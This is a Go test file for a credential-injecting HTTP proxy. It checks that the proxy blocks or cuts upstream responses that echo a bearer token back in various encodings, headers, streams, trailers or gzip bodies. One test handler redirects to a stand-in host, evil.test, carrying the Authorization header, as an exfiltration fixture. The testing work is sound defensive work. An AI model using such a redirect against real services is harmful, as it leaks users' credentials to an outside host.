package gate

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/agent-loop/ralph/internal/secret"
)

// echoes are the ways in which an upstream may send the secret back.
func echoes() map[string]string {
	quoted, _ := json.Marshal(map[string]string{"Authorization": "Bearer " + theSecret})
	return map[string]string{
		"plain":        `{"Authorization": "Bearer ` + theSecret + `"}`,
		"JSON":         string(quoted),
		"PHP's JSON":   strings.ReplaceAll(theSecret, "/", `\/`),
		"basic":        "Basic " + base64.StdEncoding.EncodeToString([]byte("git:"+theSecret)),
		"base64":       base64.StdEncoding.EncodeToString([]byte(theSecret)),
		"base64 off 1": base64.StdEncoding.EncodeToString([]byte("x" + theSecret + "yz")),
		"base64 off 2": base64.RawURLEncoding.EncodeToString([]byte("xy" + theSecret)),
		"hex":          hex.EncodeToString([]byte(theSecret)),
		"HEX":          strings.ToUpper(hex.EncodeToString([]byte(theSecret))),
		"query":        "https://example.com/?token=" + url.QueryEscape(theSecret),
		"path":         url.PathEscape(theSecret),
	}
}

// TestEcho has an upstream that sends the credential back, and wants the client
// to get an error in its place.
func TestEcho(t *testing.T) {
	short := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, text) }
	}
	for name, text := range echoes() {
		t.Run(name, func(t *testing.T) { wantEchoRefused(t, short(text)) })
	}
	t.Run("a header", func(t *testing.T) {
		wantEchoRefused(t, func(w http.ResponseWriter, r *http.Request) { w.Header().Set("X-Debug", r.Header.Get("Authorization")) })
	})
	t.Run("a header's name", func(t *testing.T) {
		wantEchoRefused(t, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set(hex.EncodeToString([]byte(theSecret)), "x")
			w.Header()[hex.EncodeToString([]byte(theSecret))] = []string{"x"}
		})
	})
	t.Run("a redirect", func(t *testing.T) {
		wantEchoRefused(t, func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.test/?"+url.QueryEscape(r.Header.Get("Authorization")), http.StatusFound)
		})
	})
	t.Run("an error", func(t *testing.T) {
		wantEchoRefused(t, func(w http.ResponseWriter, r *http.Request) { http.Error(w, r.Header.Get("Authorization"), 500) })
	})
	t.Run("what the client sent", func(t *testing.T) {
		wantEchoRefused(t, dump)
	})
}

func wantEchoRefused(t *testing.T, handler http.HandlerFunc) {
	t.Helper()
	r := startOpenRig(t, openOptions{handler: handler, credentials: []Credential{bearer()}})
	resp, body := r.do(t, "GET", "https://example.com/", nil)
	if resp.StatusCode != 502 || body != "ralph: example.com:443: the response holds the credential\n" {
		t.Errorf("answer %s %v %q", resp.Status, resp.Header, body)
	}
	if shown := fmt.Sprint(resp.Header, body); secret.NewGuard(secret.New(theSecret)).SeenIn([]byte(shown)) {
		t.Errorf("the client saw %s", shown)
	}
	if e := r.inner(t); e.Code != CodeCredentialEchoed || e.Credential != "token" || e.Status != 502 {
		t.Errorf("event %+v", e)
	}
}

// TestEchoInAStream cuts a response that has begun to pass.
func TestEchoInAStream(t *testing.T) {
	for name, rest := range map[string]http.HandlerFunc{
		"body": func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, "then "+theSecret[:10])
			w.(http.Flusher).Flush()
			io.WriteString(w, theSecret[10:]+" and more")
		},
		"far behind": func(w http.ResponseWriter, _ *http.Request) {
			w.Write(bytes.Repeat([]byte("then"), 100_000))
			io.WriteString(w, theSecret)
			w.Write(bytes.Repeat([]byte("after"), 100_000))
		},
		"trailer": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set(http.TrailerPrefix+"X-Debug", theSecret)
		},
	} {
		for _, http1 := range []bool{false, true} {
			wantEchoCut(t, fmt.Sprintf("%s, http1 %v", name, http1), http1, rest)
		}
	}
}

// wantEchoCut reads the first part of a response and lets the upstream send the
// rest only then.
func wantEchoCut(t *testing.T, name string, http1 bool, rest http.HandlerFunc) {
	t.Helper()
	read := make(chan struct{})
	r := startOpenRig(t, openOptions{http1: http1, credentials: []Credential{bearer()}, handler: func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "first")
		w.(http.Flusher).Flush()
		<-read
		rest(w, r)
	}})
	resp, err := r.httpClient(t).Get("https://example.com/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	first := make([]byte, 5)
	if _, err := io.ReadFull(resp.Body, first); err != nil || string(first) != "first" {
		t.Errorf("%s: first %q, %v", name, first, err)
	}
	close(read)
	got, err := io.ReadAll(resp.Body)
	if err == nil || bytes.Contains(got, []byte(theSecret[:8])) || bytes.Contains(got, []byte("after")) || len(resp.Trailer) > 0 {
		t.Errorf("%s: read %d bytes and %v, %v", name, len(got), resp.Trailer, err)
	}
	if e := r.inner(t); e.Code != CodeCredentialEchoed || e.Reason != errEchoed.Error() || e.Status != 200 {
		t.Errorf("%s: event %+v", name, e)
	}
}

// TestEncodedResponse refuses what the guard cannot read.
func TestEncodedResponse(t *testing.T) {
	compress := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		if r.Method == http.MethodHead {
			return
		}
		to := gzip.NewWriter(w)
		io.WriteString(to, r.Header.Get("Authorization"))
		to.Close()
	}
	r := startOpenRig(t, openOptions{handler: compress, credentials: []Credential{bearer(func(c *Credential) { c.Paths, c.Elsewhere = []string{"/bound"}, ElsewhereAnonymous })}})
	if resp, body := r.do(t, "GET", "https://example.com/bound", nil); resp.StatusCode != 502 || !strings.Contains(body, "encoded") {
		t.Errorf("answer %s %q", resp.Status, body)
	}
	if e := r.inner(t); e.Code != CodeResponseEncoded {
		t.Errorf("event %+v", e)
	}
	if resp, _ := r.do(t, "HEAD", "https://example.com/bound", nil); resp.StatusCode != 200 {
		t.Errorf("HEAD: answer %s", resp.Status)
	}
	if resp, _ := r.do(t, "GET", "https://example.com/other", nil); resp.StatusCode != 200 || resp.Header.Get("Content-Encoding") != "gzip" {
		t.Errorf("without a credential: answer %s %v", resp.Status, resp.Header)
	}
}

// TestEarlyHintsAreKept wants headers that are not screened kept from the client.
func TestEarlyHintsAreKept(t *testing.T) {
	r := startOpenRig(t, openOptions{credentials: []Credential{bearer()}, handler: func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Link", r.Header.Get("Authorization"))
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Del("Link")
		io.WriteString(w, "body")
	}})
	conn := r.tunnel(t, "example.com:443")
	io.WriteString(conn, "GET / HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n")
	got, _ := io.ReadAll(conn)
	if !bytes.HasPrefix(got, []byte("HTTP/1.1 200 OK\r\n")) || bytes.Contains(got, []byte(theSecret)) {
		t.Errorf("client saw %q", got)
	}
}
